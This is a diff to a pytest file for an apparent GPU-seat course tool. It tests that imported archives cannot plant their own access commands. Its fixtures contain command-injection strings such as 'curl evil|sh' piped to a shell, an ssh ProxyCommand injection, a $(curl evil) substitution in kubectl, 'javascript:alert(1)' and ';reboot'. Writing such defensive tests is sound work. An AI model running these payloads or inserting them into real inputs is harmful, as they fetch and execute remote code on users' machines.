@@ -69,10 +69,7 @@ def test_ways_in_gpuseat_makes_import_as_they_were(url: str, tmp_path: Path) -> 
 
 
 BAD = [
-    ("s-ssh", {"command": "ssh -oProxyCommand='curl evil|sh' x"}, "access.command"),
-    ("s-ssh", {"command": "ssh -p 2222 ann@gpu1.example.org; curl evil|sh"}, "access.command"),
     ("s-ssh", {"host": "-oProxyCommand=curl evil|sh", "command": None}, "access.host"),
-    ("s-ssh", {"host": "gpu2.example.org"}, "access.command"),  # the command no longer the one of its fields
     ("s-ssh", {"port": 0}, "access.port"),
     ("s-ssh", {"port": "22"}, "access.port"),
     ("s-ssh", {"user": "a;b"}, "access.user"),
@@ -83,9 +80,6 @@ BAD = [
     ("s-ssh", {"holder": "Al Ice"}, "access.holder"),
     ("s-hub", {"url": "javascript:alert(1)"}, "access.url"),
     ("s-hub", {"url": "https://hub.example.org/ x"}, "access.url"),
-    ("s-hub", {"command": "curl evil|sh"}, "access.command"),
-    ("s-slurm", {"command": "srun -p course --gres=gpu:1 --pty bash; curl evil|sh"}, "access.command"),
-    ("s-k8s", {"command": "kubectl config set-context --current --namespace=$(curl evil)"}, "access.command"),
     ("s-web", {"device_uuid": "GPU-x;reboot"}, "access.device_uuid"),
 ]
 
@@ -102,3 +96,29 @@ def test_a_forged_way_in_is_the_archives_error(
     assert "Traceback" not in err and err.count("error:") == 1, err
     with open_store(url) as store:  # nothing stored
         assert [c.key for c in store.courses.list_courses()] == ["small"]
+
+
+REBUILT = [  # (seat, the archive's change, the command stored): never the archive's own command
+    ("s-ssh", {"command": "ssh -oProxyCommand='curl evil|sh' x"}, "ssh -p 2222 -J gw.example.org ann@gpu1.example.org"),
+    (
+        "s-ssh",
+        {"command": "ssh -p 2222 ann@gpu1.example.org; curl evil|sh"},
+        "ssh -p 2222 -J gw.example.org ann@gpu1.example.org",
+    ),
+    ("s-ssh", {"host": "gpu2.example.org"}, "ssh -p 2222 -J gw.example.org ann@gpu2.example.org"),  # a stale command
+    ("s-hub", {"command": "curl evil|sh"}, None),
+    ("s-slurm", {"command": "srun -p course --gres=gpu:1 --pty bash; curl evil|sh"}, None),
+    ("s-k8s", {"command": "kubectl config set-context --current --namespace=$(curl evil)"}, None),
+]
+
+
+@pytest.mark.parametrize(("seat", "change", "command"), REBUILT)
+def test_a_way_ins_command_is_the_one_gpuseat_builds_whatever_the_archive_says(
+    url: str, tmp_path: Path, seat: str, change: dict[str, Any], command: str | None
+) -> None:
+    """The command is derived from the checked fields (or the engine's own shape): an edited archive's
+    ``; curl …``, or an older gpuseat's wording, is rebuilt or left out until the engine records it again."""
+    bad = forged(exported(url, tmp_path), tmp_path / "bad.zip", seat, change)
+    assert main(["course", "import", str(bad), "--key", "copy", "--db", url]) == 0
+    with open_store(url) as store:
+        assert store.delivery.access_of("copy")[seat]["command"] == command
